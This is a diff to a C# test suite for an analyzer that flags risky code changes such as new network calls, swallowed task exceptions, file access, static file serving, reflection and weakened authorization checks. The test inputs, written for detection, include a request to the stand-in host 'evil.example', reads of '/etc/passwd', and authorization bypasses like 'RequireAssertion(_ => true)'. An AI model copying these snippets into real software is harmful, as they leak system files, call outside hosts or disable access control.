@@ -49,6 +49,14 @@ public sealed class LibertyCheckTests
     [Theory]
     [InlineData("a comment", "return await http", "// nothing\n            return await http")]
     [InlineData("another path of the same host", "{Root}/items/{id}", "{Root}/items/{Uri.EscapeDataString(id)}?full=true")]
+    [InlineData("a value escaped with which the address begins", "http.GetStringAsync(path, token)", "http.GetStringAsync(Uri.EscapeDataString(path), token)")]
+    [InlineData("the most that is held of an answer", "await http.GetStringAsync(path, token);",
+        "await BoundedAsync(path, token);\n\n    private Task<string> BoundedAsync(string path, CancellationToken token)\n    {\n"
+        + "        http.MaxResponseContentBufferSize = 1 << 20;\n        http.DefaultVersionPolicy = HttpVersionPolicy.RequestVersionOrLower;\n"
+        + "        return http.GetStringAsync(path, token);\n    }")]
+    [InlineData("the same address in the culture of machines", "$\"{Root}/items/{id}\"", "FormattableString.Invariant($\"{Root}/items/{id}\")")]
+    [InlineData("and by another call", "$\"{Root}/items/{id}\"",
+        "string.Create(System.Globalization.CultureInfo.InvariantCulture, $\"{Root}/items/{id}\")")]
     [InlineData("the same address by a message", "return await http.GetStringAsync($\"{Root}/items/{id}\");",
         "using var request = new HttpRequestMessage(HttpMethod.Get, $\"{Root}/items/{id}\");\n"
         + "            request.Headers.Add(\"X-Tenant\", \"a\");\n"
@@ -122,6 +130,7 @@ public sealed class LibertyCheckTests
     [InlineData("return await To(\"/orders\"); Task<string> To(string u) { u = string.Concat(\"http:/\", \"/evil.example\"); return http.GetStringAsync(u); }",
         "String.Concat(")]
     [InlineData("return await http.GetStringAsync(To()); static string To() => string.Concat(\"http:/\", \"/evil.example\");", "String.Concat(")]
+    [InlineData("return await http.GetStringAsync(FormattableString.Invariant($\"https://evil.example/{id}\"));", "evil.example")]
     [InlineData("return await http.GetStringAsync($\"/{id}\");", "\"/\" and a parameter of string")]
     public async Task Pieces_are_no_way_around(string statements, string said)
     {
@@ -146,6 +155,37 @@ public sealed class LibertyCheckTests
         var taken = await TakenAsync(Changed(Shop, Call, $"try {{ {Call} }} {handler}"));
 
         Assert.Equal(LibertyKind.Swallowing, Assert.Single(taken).Kind);
+    }
+
+    /// <summary>Whoever asks how a task ended need not catch what it throws.</summary>
+    [Theory]
+    [InlineData("return await http.GetStringAsync($\"{Root}/items/{id}\").ContinueWith(read => read.IsCompletedSuccessfully ? read.Result : \"\");")]
+    [InlineData("return await http.GetStringAsync($\"{Root}/items/{id}\").ContinueWith(_ => \"\");")]
+    [InlineData("var read = http.GetStringAsync($\"{Root}/items/{id}\"); await Task.WhenAny(read); return read.IsFaulted ? \"\" : await read;")]
+    public async Task What_a_task_throws_is_not_passed_over(string statements)
+    {
+        Assert.All(await TakenAsync(Changed(Shop, Call, statements)), liberty => Assert.Equal(LibertyKind.Swallowing, liberty.Kind));
+        Assert.NotEmpty(await TakenAsync(Changed(Shop, Call, statements)));
+    }
+
+    /// <summary>What was escaped is no more: any address may stand there then.</summary>
+    [Fact]
+    public async Task An_escape_that_is_gone_opens_the_address()
+    {
+        var escaped = Changed(Shop, "http.GetStringAsync(path, token)", "http.GetStringAsync(Uri.EscapeDataString(path), token)");
+
+        Assert.Equal(LibertyKind.Network, Assert.Single(await TakenAsync(Shop, escaped)).Kind);
+    }
+
+    /// <summary>Files have many readers; what names one says so by its parameter.</summary>
+    [Theory]
+    [InlineData("_ = new Microsoft.AspNetCore.Mvc.PhysicalFileResult(\"/etc/passwd\", \"text/plain\");")]
+    [InlineData("_ = new System.Security.Cryptography.X509Certificates.X509Certificate2(\"/etc/passwd\");")]
+    [InlineData("new System.Data.DataSet().WriteXml(\"/etc/passwd\");")]
+    [InlineData("await ((Microsoft.AspNetCore.Http.Features.IHttpResponseBodyFeature)log).SendFileAsync(\"/etc/passwd\", 0, null);")]
+    public async Task Whatever_takes_the_name_of_a_file_reaches_for_files(string statement)
+    {
+        Assert.Contains(await TakenAsync(Changed(Shop, Call, $"{statement} {Call}")), liberty => liberty.Kind == LibertyKind.Files);
     }
 
     [Theory]
@@ -257,6 +297,24 @@ public sealed class LibertyCheckTests
         Assert.Equal("reflection: more than can be followed, through Steps.Step0() (/Shop/Shop.cs:3)", Assert.Single(taken).ToString());
     }
 
+    [Theory]
+    [InlineData("app.UseStaticFiles(new StaticFileOptions { FileProvider = files });", LibertyKind.Endpoints)]
+    [InlineData("app.UseFileServer(true);", LibertyKind.Endpoints)]
+    [InlineData("app.UseDirectoryBrowser();", LibertyKind.Endpoints)]
+    [InlineData("System.ComponentModel.TypeDescriptor.GetProperties(app)[0].SetValue(app, null);", LibertyKind.Reflection)]
+    public async Task What_serves_files_or_looks_into_types_is_known(string statement, LibertyKind kind)
+    {
+        const string Start = """
+            public static class Start
+            {
+                public static void With(IApplicationBuilder app, Microsoft.Extensions.FileProviders.IFileProvider files) => app.UseRouting();
+            }
+
+            """;
+
+        Assert.Equal(kind, Assert.Single(await TakenAsync(Changed(Start, "=> app.UseRouting();", $"{{ app.UseRouting(); {statement} }}"), Start)).Kind);
+    }
+
     /// <summary>A check is the one of what it guards, with what it asks for.</summary>
     [Theory]
     [InlineData("[Authorize(Roles = \"crew\")]", "[Authorize]", true)]
@@ -270,6 +328,10 @@ public sealed class LibertyCheckTests
     [InlineData("\"b\").RequireAuthorization();", "\"b\" + 1).RequireAuthorization();", false)]
     [InlineData("app.MapGet(\"/b\", () => \"b\").RequireAuthorization();\n    }",
         "Other(app);\n    }\n\n    private static void Other(IEndpointRouteBuilder app) => app.MapGet(\"/b\", () => \"b\").RequireAuthorization();", false)]
+    [InlineData("policy => policy.RequireRole(\"crew\")", "policy => policy.RequireAssertion(_ => true)", true)]
+    [InlineData("RequireRole(\"crew\")", "RequireRole(\"crew\", \"guest\")", true)]
+    [InlineData("user.IsInRole(\"crew\") && ", "", true)]
+    [InlineData("user.IsInRole(\"crew\") && id.Length > 0", "id.Length > 1 && user.IsInRole(\"crew\")", false)]
     public async Task A_check_stays_with_what_it_guards(string old, string @new, bool isGone)
     {
         const string Guarded = """
@@ -283,6 +345,11 @@ public sealed class LibertyCheckTests
 
             public static class Routes
             {
+                public static bool IsOf(System.Security.Claims.ClaimsPrincipal user, string id) => user.IsInRole("crew") && id.Length > 0;
+
+                public static void Add(IServiceCollection services) =>
+                    services.AddAuthorization(options => options.AddPolicy("crew", policy => policy.RequireRole("crew")));
+
                 public static void Map(IEndpointRouteBuilder app)
                 {
                     app.MapGet("/b", () => "b").RequireAuthorization();
